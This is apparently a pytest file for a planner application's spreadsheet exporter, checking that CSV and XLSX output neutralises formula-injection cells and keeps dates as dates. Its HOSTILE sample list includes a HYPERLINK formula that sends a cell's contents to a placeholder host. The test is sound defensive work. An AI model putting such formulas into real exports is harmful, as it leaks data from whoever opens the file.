"""Spreadsheet exports: data stays data (no formula runs), dates stay dates."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from planner.export.spreadsheet import (
    FORMULA_STARTS,
    csv_bytes,
    neutralise,
    table_bytes,
    xlsx_bytes,
)

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?d="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_be_a_formula_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "", "Day +12", "a=b", "'quoted"])
def test_other_text_is_left_as_it_is(text):
    assert neutralise(text) == text


def test_every_start_the_rule_names_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def _csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the accents as UTF-8
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_neutralises_every_hostile_cell_and_writes_dates_as_iso_text():
    at = dt.datetime(2026, 3, 10, 9, 30)
    rows = [[i, at, dt.date(2026, 3, 10), text, None] for i, text in enumerate(HOSTILE)]
    got = _csv_rows(csv_bytes(["n", "at", "day", "text", "none"], rows))
    assert got[0] == ["n", "at", "day", "text", "none"]
    assert [r[3] for r in got[1:]] == ["'" + t for t in HOSTILE]
    assert got[1][:3] == ["0", "2026-03-10 09:30:00", "2026-03-10"] and got[1][4] == ""


def test_xlsx_cells_are_text_not_formulas_and_dates_are_dates():
    at = dt.datetime(2026, 3, 10, 9, 30)
    data = table_bytes(["n", "at", "text"], [[1, at, HOSTILE[0]], [2, at, "Ada"]], "xlsx", "Audit")
    sheet = load_workbook(io.BytesIO(data))["Audit"]
    assert sheet["C2"].data_type == "s" and sheet["C2"].value == "'" + HOSTILE[0]
    assert sheet["B2"].is_date and sheet["B2"].value == at
    assert sheet["A3"].value == 2 and sheet["C3"].value == "Ada"
    assert sheet.freeze_panes == "A2"


def test_xlsx_refuses_a_time_with_a_zone_rather_than_shift_it_silently():
    aware = dt.datetime(2026, 3, 10, 9, 30, tzinfo=dt.UTC)
    with pytest.raises(ValueError, match="time zones"):
        table_bytes(["at"], [[aware]], "xlsx")


def test_an_unknown_format_is_refused():
    with pytest.raises(ValueError, match="unknown table format"):
        table_bytes(["a"], [], "ods")


def test_each_row_is_formatted_by_its_number_not_by_scanning_the_sheet(monkeypatch):
    """``ws[ws.max_row]`` after each append scanned every cell written so far: a
    5,000-row worklist took 9 s, the 78,000 forms of a long history hours."""
    from openpyxl.worksheet.worksheet import Worksheet

    scans = []
    for name in ("max_row", "max_column"):
        whole = getattr(Worksheet, name)
        monkeypatch.setattr(
            Worksheet,
            name,
            property(
                lambda self, whole=whole, name=name: (scans.append(name), whole.fget(self))[1]
            ),
        )
    rows = [[f"=row{i}", dt.date(2026, 1, 1 + i % 28), i] for i in range(3_000)]
    data = xlsx_bytes(["Text", "Day", "N"], rows, "Sheet1")
    assert len(scans) < 20  # the writer's own look at the sheet, not one a row
    monkeypatch.undo()
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.max_row == 3_001
    last = list(sheet[3_001])
    assert last[0].value == "'=row2999" and last[0].data_type == "s"  # text, never a formula
    assert last[1].number_format == "yyyy-mm-dd" and last[2].value == 2999
